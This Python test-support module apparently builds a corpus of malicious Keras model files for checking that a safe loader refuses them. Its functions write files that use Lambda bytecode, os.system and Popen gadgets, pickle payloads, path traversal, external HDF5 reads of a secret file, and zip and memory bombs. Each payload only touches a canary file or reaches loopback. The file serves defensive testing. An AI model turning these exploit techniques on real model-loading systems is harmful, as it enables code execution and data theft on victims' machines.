"""Model files that attack whoever loads them, each written by a function of its name.

Each tries for something that can be seen: to make the file `World.canary`, to read `World.secret`, to
connect to `World.port`, or to allocate gigabytes. What the function of a CVE writes follows its published
description.
"""

import base64
import dataclasses
import io
import json
import marshal
import os
import stat
import tarfile
import tempfile
import warnings
import zipfile
from pathlib import Path

import h5py
import keras
import numpy as np

from support.networks import small_gan

SECRET = b"the secret of this machine, of sixty-four bytes at the very least"
METADATA, CONFIG, WEIGHTS = "metadata.json", "config.json", "model.weights.h5"


@dataclasses.dataclass(frozen=True)
class World:
    """What the files are after.

    Attributes:
        folder: Where they lie; loading them may make nothing, there or elsewhere.
        canary: File that code in them makes.
        secret: File that they read.
        port: On loopback, to which they connect.
    """

    folder: Path
    canary: Path
    secret: Path
    port: int

    @property
    def touch(self):
        """The shell's command that makes the canary."""
        return f"touch {self.canary}"


FILES, REASONS = {}, {}


def attack(reason):
    """Add what writes a file to the corpus: it is called with a `World` and the path.

    Args:
        reason: Words of the message by which the file is refused.
    """

    def add(function):
        FILES[function.__name__], REASONS[function.__name__] = function, reason
        return function

    return add


def write_all(world):
    """Write the whole corpus; returns a dict of the names to paths."""
    world.secret.write_bytes(SECRET)
    paths = {}
    for name, write in FILES.items():
        path = world.folder / f"{name}.keras"
        paths[name] = write(world, path) or path
    return paths


# What the files are made of


def saved(model):
    """Members of the file of a model: a dict, its config parsed."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "model.keras"
        model.save(path)
        with zipfile.ZipFile(path) as archive:
            parts = {name: archive.read(name) for name in archive.namelist()}
    return parts | {CONFIG: json.loads(parts[CONFIG])}


def honest():
    """Members of a file that does no harm."""
    return saved(keras.Sequential([keras.Input((4,)), keras.layers.Dense(4, name="dense")], name="honest"))


def write(path, parts, *, compression=zipfile.ZIP_STORED):
    """Write members, a dict or pairs of names (or `ZipInfo`) and contents, as an archive."""
    pairs = parts.items() if isinstance(parts, dict) else parts
    with zipfile.ZipFile(path, "w", compression) as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # of names that are there twice
        for name, content in pairs:
            archive.writestr(name, json.dumps(content) if isinstance(content, dict) else content)


def write_config(path, config):
    """Write an honest file with another configuration."""
    write(path, honest() | {CONFIG: config})


def write_layers(path, *layers):
    """Write a sequential model with some more layers."""
    parts = honest()
    parts[CONFIG]["config"]["layers"] += layers
    write(path, parts)


def write_calls(path, *layers):
    """Write a functional model in which layers are called on what their `inbound_nodes` say."""
    inputs = thing("keras.layers", "InputLayer", batch_shape=[None, 4], dtype="float32", name="input")
    layers = [
        inputs | {"name": "input", "inbound_nodes": []},
        *({"name": "evil"} | layer for layer in layers),
    ]
    graph = {"name": "graph", "trainable": True, "layers": layers}
    ends = {"input_layers": [["input", 0, 0]], "output_layers": [["input", 0, 0]]}
    write_config(path, thing("keras.src.models.functional", "Functional", **graph, **ends))


def write_weights(path, change):
    """Write an honest file whose weights are changed by a function of the open HDF5 file."""
    parts = honest()
    buffer = io.BytesIO(parts[WEIGHTS])
    with h5py.File(buffer, "r+") as file:
        change(file, "layers/dense/vars/0")
    write(path, parts | {WEIGHTS: buffer.getvalue()})


def thing(module, class_name, /, registered_name=None, **config):
    """The configuration of an object."""
    return {"module": module, "class_name": class_name, "config": config, "registered_name": registered_name}


def function(module, name):
    """The configuration of a function, by its name in a module."""
    return {"module": module, "class_name": "function", "config": name, "registered_name": "function"}


def gadget(module, name, inputs, **arguments):
    """A Lambda layer that calls a function of a module once it is loaded."""
    layer = thing("keras.layers", "Lambda", name=name, function=function(module, name), arguments=arguments)
    return layer | {"inbound_nodes": [{"args": [], "kwargs": {"inputs": inputs}}]}


def dense(units=4, /, **config):
    """The configuration of a dense layer, built for four inputs."""
    layer = thing("keras.layers", "Dense", **{"name": f"dense_{units}", "units": units} | config)
    return layer | {"build_config": {"input_shape": [None, 4]}}


def bytecode(world):
    """A function that makes the canary, as Keras writes a lambda."""
    code = compile(f"lambda x: [open({str(world.canary)!r}, 'w').close(), x][1]", "<lambda>", "eval")
    marshalled = base64.b64encode(marshal.dumps(code.co_consts[0])).decode()
    return {"class_name": "__lambda__", "config": {"code": marshalled, "defaults": None, "closure": None}}


def lambda_layer(world, name="evil"):
    """A Lambda layer of bytecode, called when the model is built."""
    layer = thing("keras.layers", "Lambda", name=name, function=bytecode(world), arguments={})
    return layer | {"build_config": {"input_shape": [None, 4]}}


def pickled(world):
    """What a pickle of `os.system(...)` is, in hexadecimal."""
    return (b"cos\nsystem\n(S'" + world.touch.encode() + b"'\ntR.").decode("latin-1")


# Code that the file brings or names


@attack("keras.layers.Lambda")
def cve_2024_3660_lambda(world, path):
    write_layers(path, lambda_layer(world))


@attack("keras.layers.Lambda")
def cve_2025_1550_any_module(world, path):
    write_calls(path, gadget("os", "system", world.touch))


@attack("subprocess.Popen")
def cve_2025_1550_any_module_as_class(world, path):
    write_layers(path, thing("subprocess", "Popen", name="evil", args=["touch", str(world.canary)]))


@attack("keras.layers.Lambda")
def cve_2025_8747_get_file(world, path):
    arguments = {"origin": f"http://127.0.0.1:{world.port}/x", "cache_dir": str(world.canary.parent)}
    write_calls(path, gadget("keras.utils", "get_file", world.canary.name, cache_subdir="", **arguments))


@attack("HDF5")
def cve_2025_9905_legacy(world, path):
    path = path.with_suffix(".h5")
    write_legacy(world, path)
    return path


@attack("does not begin as one")
def cve_2025_9905_legacy_by_another_name(world, path):
    write_legacy(world, path)


def write_legacy(world, path):
    """Write a model with a lambda in Keras's old format, which is one HDF5 file."""
    code = bytecode(world)["config"]["code"]
    layer = {"name": "evil", "function": [code, None, None], "function_type": "lambda"}
    layers = [
        {"class_name": "InputLayer", "config": {"batch_shape": [None, 4], "name": "input"}},
        {"class_name": "Lambda", "config": layer | {"output_shape_type": "raw", "arguments": {}}},
    ]
    config = {"class_name": "Sequential", "config": {"name": "legacy", "layers": layers}}
    with h5py.File(path, "w") as file:
        file.attrs["model_config"] = json.dumps(config)
        file.attrs["keras_version"] = keras.__version__
        file.create_group("model_weights").attrs["layer_names"] = np.array([], "S1")


@attack("keras.layers.Lambda")
def cve_2025_9906_unsafe_deserialization(world, path):
    unsafe = gadget("keras.config", "enable_unsafe_deserialization", [])
    write_calls(path, unsafe, lambda_layer(world))


@attack("keras.layers.Lambda")
def cve_2025_9906_global_attribute(world, path):
    state = "keras.src.backend.common.global_state"
    unsafe = gadget(state, "set_global_attribute", "safe_mode_saving", value=False)
    write_calls(path, unsafe, lambda_layer(world))


@attack("keras.layers.Lambda")
def cve_2025_9906_load_model(world, path):
    inner = world.folder / "inner.keras"
    write_layers(inner, lambda_layer(world))
    write_calls(path, gadget("keras.models", "load_model", str(inner), safe_mode=False))


@attack("keras.layers.Lambda")
def cve_2025_12060_tar(world, path):
    tar = world.folder / "evil.tar"
    with tarfile.open(tar, "w") as archive:
        archive.addfile(tarfile.TarInfo(f"../../{world.canary.name}"))
    arguments = {"origin": tar.as_uri(), "extract": True, "cache_dir": str(world.folder)}
    write_calls(path, gadget("keras.utils", "get_file", "evil.tar", **arguments))


@attack("keras.layers.TFSMLayer")
def cve_2026_1462_saved_model(world, path):
    folder = world.folder / "saved_model"
    if keras.backend.backend() == "tensorflow":
        write_saved_model(world, folder)
    layer = thing(
        "keras.layers", "TFSMLayer", name="evil", filepath=str(folder), call_endpoint="serving_default"
    )
    write_layers(path, layer)


def write_saved_model(world, folder):
    """Write a SavedModel that makes the canary when it is called."""
    import tensorflow as tf  # noqa: TID251 (to write what only it loads)

    class Evil(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([None, 4])])
        def __call__(self, x):
            tf.io.write_file(str(world.canary), "")
            return x

    evil = Evil()
    tf.saved_model.save(evil, str(folder), signatures=evil.__call__)


@attack("keras.layers.Lambda")
def cve_2026_12481_lambda_in_a_wrapper(world, path):
    write_layers(path, thing("keras.layers", "TimeDistributed", name="outer", layer=lambda_layer(world)))


@attack("'Lambda' without a module")
def cve_2026_12481_lambda_without_a_module(world, path):
    code = bytecode(world)["config"]["code"]
    config = {"name": "evil", "function": [code, None, None], "function_type": "lambda", "arguments": {}}
    write_layers(path, {"class_name": "Lambda", "config": config})


@attack("keras.layers.Lambda")
def lambda_in_the_generator_of_a_gan(world, path):
    parts = saved(small_gan())
    parts[CONFIG]["config"]["generator"]["config"]["layers"].append(lambda_layer(world))
    write(path, parts)


@attack("keras.layers.Lambda")
def lambda_under_a_registered_name_that_is_not_there(world, path):
    write_layers(path, lambda_layer(world) | {"registered_name": "kgan>Lambda"})


@attack("holds a lambda")
def lambda_as_a_loss(world, path):
    parts = honest()
    parts[CONFIG]["compile_config"] = {"optimizer": "adam", "loss": bytecode(world)}
    write(path, parts)


@attack("something else than another's output")
def lambda_in_the_arguments_of_a_call(world, path):
    call = {"args": [bytecode(world)], "kwargs": {}}
    write_calls(path, dense() | {"inbound_nodes": [call]})


@attack("os.system")
def function_as_an_initializer(world, path):
    write_layers(path, dense(kernel_initializer=function("os", "system")))


@attack("keras.utils.get_file")
def function_as_an_activation(world, path):
    write_layers(path, dense(activation=function("keras.utils", "get_file")))


@attack("builtins.deserialize")
def function_of_the_deserializer_itself(world, path):
    write_layers(path, dense(activation=function("builtins", "deserialize")))


@attack("os.system")
def function_as_a_layer(world, path):
    call = {"args": [], "kwargs": {"command": world.touch}}
    write_calls(path, function("os", "system") | {"name": "evil", "inbound_nodes": [call]})


@attack("os.system")
def function_in_a_metric(world, path):
    parts = honest()
    metric = thing("keras.metrics", "MeanMetricWrapper", name="evil", fn=function("os", "system"))
    parts[CONFIG]["compile_config"] = {"optimizer": "adam", "loss": "mse", "metrics": [metric]}
    write(path, parts)


@attack("keras.src.utils.file_utils.File")
def class_that_is_no_layer(world, path):
    write_layers(path, thing("keras.src.utils.file_utils", "File", name="evil", path=str(world.secret)))


@attack("keras_hub.src.models.Backbone")
def class_of_another_package(world, path):
    write_layers(path, thing("keras_hub.src.models", "Backbone", name="evil"))


@attack("keras.layers.TorchModuleWrapper")
def pickle_in_a_torch_module(world, path):
    value = {"class_name": "__bytes__", "config": {"value": pickled(world)}}
    write_layers(path, thing("keras.layers", "TorchModuleWrapper", name="evil", module=value))


@attack("keras.layers.JaxLayer")
def function_in_a_jax_layer(world, path):
    write_layers(path, thing("keras.layers", "JaxLayer", name="evil", call_fn=bytecode(world)))


@attack("keras.layers.FlaxLayer")
def function_in_a_flax_layer(world, path):
    write_layers(path, thing("keras.layers", "FlaxLayer", name="evil", module=bytecode(world)))


@attack("holds a typespec")
def type_specification(world, path):
    spec = thing("subprocess", "Popen") | {"class_name": "__typespec__", "spec_name": "Popen"}
    write_layers(path, dense(kernel_initializer=spec | {"config": [world.touch]}))


# Files that are read or written


@attack("keras.layers.StringLookup")
def cve_2025_12058_vocabulary(world, path):
    write_layers(path, thing("keras.layers", "StringLookup", name="evil", vocabulary=str(world.secret)))


@attack("keras.layers.IntegerLookup")
def cve_2025_12058_vocabulary_of_a_url(world, path):
    url = f"http://127.0.0.1:{world.port}/x"
    write_layers(path, thing("keras.layers", "IntegerLookup", name="evil", vocabulary=url))


@attack("lies in another file")
def cve_2026_1669_external_array(world, path):
    def change(file, name):
        del file[name]
        file.create_dataset(name, (4, 4), "float32", external=[(str(world.secret), 0, 64)])

    write_weights(path, change)


@attack("link that leads elsewhere")
def external_link(world, path):
    with h5py.File(world.folder / "other.h5", "w") as file:
        file["x"] = np.ones((4, 4), "float32")

    def change(file, name):
        del file[name]
        file[name] = h5py.ExternalLink(str(world.folder / "other.h5"), "x")

    write_weights(path, change)


@attack("link that leads elsewhere")
def soft_link(world, path):
    def change(file, name):
        file["x"] = file[name][...]
        del file[name]
        file[name] = h5py.SoftLink("/x")

    write_weights(path, change)


@attack("made of other arrays")
def virtual_array(world, path):
    def change(file, name):
        del file[name]
        layout = h5py.VirtualLayout((4, 4), "float32")
        layout[:] = h5py.VirtualSource(str(world.folder / "other.h5"), "x", (4, 4))
        file.create_virtual_dataset(name, layout)

    write_weights(path, change)


@attack("cannot contain character `/`")
def cve_2026_12479_name_of_a_layer(world, path):
    parts = honest()
    parts[CONFIG]["config"]["layers"][1]["config"]["name"] = f"../../{world.canary.name}"
    write(path, parts)


@attack("and nothing else")
def member_outside_the_folder(world, path):
    write(path, honest() | {f"../../{world.canary.name}": b""})


@attack("and nothing else")
def member_of_an_absolute_name(world, path):
    write(path, honest() | {str(world.canary): b""})


@attack("and nothing else")
def member_among_the_assets(world, path):
    write(path, honest() | {f"assets/../../{world.canary.name}": b""})


@attack("is a link")
def member_that_is_a_link(world, path):
    link = zipfile.ZipInfo(WEIGHTS)
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    parts = honest()
    write(path, [*((name, parts[name]) for name in (METADATA, CONFIG)), (link, str(world.secret))])


@attack("and nothing else")
def member_that_is_there_twice(world, path):
    parts = honest()
    evil = json.loads(json.dumps(parts[CONFIG]))
    evil["config"]["layers"].append(lambda_layer(world))
    write(path, [*parts.items(), (CONFIG, evil)])


@attack("is a folder")
def link_to_a_folder(world, path):
    path.symlink_to(world.folder)


@attack("is no regular file")
def pipe_that_nobody_writes_to(world, path):
    os.mkfifo(path)


# Memory


@attack("is packed")
def cve_2026_0897_shape(world, path):
    def change(file, name):
        del file[name]
        file.create_dataset(name, (10**6, 10**6), "float32", chunks=(1000, 1000), compression="gzip")

    write_weights(path, change)


@attack("declares 400,000,000,000 bytes, and stores 0")
def shape_that_is_never_written(world, path):
    def change(file, name):
        del file[name]
        file.create_dataset(name, (10**6, 10**5), "float32")

    write_weights(path, change)


@attack("is packed")
def array_that_is_packed(world, path):
    def change(file, name):
        del file[name]
        file.create_dataset(name, data=np.zeros((4, 10**7), "float32"), compression="gzip")

    write_weights(path, change)


@attack("declares 314,582,640 bytes")
def zip_bomb(world, path):
    parts = honest()
    write(path, parts | {WEIGHTS: parts[WEIGHTS] + bytes(300 << 20)}, compression=zipfile.ZIP_DEFLATED)


@attack("is damaged")
def zip_bomb_that_lies(world, path):
    parts = honest()
    size = (200 << 20) + len(parts[WEIGHTS])
    write(path, parts | {WEIGHTS: parts[WEIGHTS] + bytes(200 << 20)}, compression=zipfile.ZIP_DEFLATED)
    truth, lie = (number.to_bytes(4, "little") for number in (size, 2 << 20))
    path.write_bytes(path.read_bytes().replace(truth, lie))


@attack("nested more than 128 deep")
def deep_configuration(world, path):
    parts = honest()
    write(path, parts | {CONFIG: b'{"class_name": ' + b"[" * 10**6 + b"]" * 10**6 + b"}"})


@attack("more than 8,388,608")
def long_configuration(world, path):
    write(path, honest() | {CONFIG: b" " * (9 << 20)})


@attack("more than 2,000 layers")
def layers_by_the_thousand(world, path):
    parts = honest()
    identity = json.dumps(thing("keras.layers", "Identity")).encode()
    layers = b",".join([identity] * 80_000)
    text = json.dumps(parts[CONFIG] | {"more": ["HERE"]}).encode()
    write(path, parts | {CONFIG: text.replace(b'"HERE"', layers)})


@attack("layers in a Sequential, squared")
def sequence_of_a_thousand_layers(world, path):
    write_layers(path, *(thing("keras.layers", "Identity", name=f"i{k}") for k in range(1000)))


@attack("more than 30,000 objects")
def values_by_the_thousand(world, path):
    write_layers(path, dense(kernel_initializer=[{"class_name": "__ellipsis__", "config": {}}] * 40_000))


@attack("shape (4, 1000000000)")
def units_by_the_billion(world, path):
    write_layers(path, dense(10**9))


@attack("shape (4, 1000000000)")
def units_by_the_billion_without_weights(world, path):
    parts = honest()
    parts[CONFIG]["config"]["layers"] = [parts[CONFIG]["config"]["layers"][0], dense(10**9)]
    buffer = io.BytesIO()
    h5py.File(buffer, "w").close()
    write(path, parts | {WEIGHTS: buffer.getvalue()})


@attack("shape (400, 400)")
def units_in_many_layers(world, path):
    inner = {"build_config": {"input_shape": [None, 400]}}
    write_layers(path, dense(400), *(dense(400, name=f"d{k}") | inner for k in range(20)))


@attack("shape (100000000, 64)")
def embedding_of_everything(world, path):
    write_layers(path, thing("keras.layers", "Embedding", name="e", input_dim=10**8, output_dim=64))


@attack("shape (4, 400000)")
def memory_of_an_lstm(world, path):
    layer = thing("kgan.layers.lstm", "LSTM", "kgan>LSTM", name="memory", units=100_000)
    write_layers(path, layer | {"build_config": {"input_shape": [None, 5, 4]}})


@attack("is too large")
def input_of_everything(world, path):
    parts = honest()
    parts[CONFIG]["config"]["layers"][0]["config"]["batch_shape"] = [1, 10**12]
    write(path, parts)


@attack("dtype S1000000000")
def value_of_a_gigabyte(world, path):
    value = {"class_name": "__numpy__", "config": {"value": [""] * 4, "dtype": "S1000000000"}}
    write_layers(path, dense(kernel_initializer=value))


@attack("something else than another's output")
def layer_computed_at_once(world, path):
    value = {"class_name": "__tensor__", "config": {"value": [[[1.0]]], "dtype": "float32"}}
    layer = thing("keras.layers", "UpSampling1D", name="evil", size=10**9)
    write_calls(path, layer | {"inbound_nodes": [{"args": [value], "kwargs": {}}]})


@attack("1000000000 as 'num_thresholds'")
def thresholds_by_the_billion(world, path):
    parts = honest()
    metric = thing("keras.metrics", "AUC", name="evil", num_thresholds=10**9)
    parts[CONFIG]["compile_config"] = {"optimizer": "adam", "loss": "mse", "metrics": [metric]}
    write(path, parts)


@attack("keras.layers.MelSpectrogram")
def spectrogram_by_the_billion(world, path):
    layer = thing("keras.layers", "MelSpectrogram", name="evil", fft_length=10**5, num_mel_bins=10**5)
    write_layers(path, layer | {"build_config": {"input_shape": [None, 10**5]}})


# Not whole


@attack("is truncated: it breaks off after")
def truncated(world, path):
    write(path, honest())
    path.write_bytes(path.read_bytes()[:-100])


@attack("is truncated: it is empty")
def empty(world, path):
    path.write_bytes(b"")


@attack("Bad CRC-32")
def flipped_bit(world, path):
    write(path, honest())
    data = bytearray(path.read_bytes())
    data[data.index(b"\x89HDF") + 2000] ^= 1
    path.write_bytes(data)


@attack("does not begin as one")
def something_else(world, path):
    path.write_bytes(b"GIF89a, says he")


@attack("describes no model")
def configuration_that_is_no_model(world, path):
    write_config(path, {"class_name": "Dense"})


@attack("key twice")
def key_that_is_there_twice(world, path):
    text = json.dumps(honest()[CONFIG])
    write(path, honest() | {CONFIG: text[:-1] + ', "module": "os"}'})
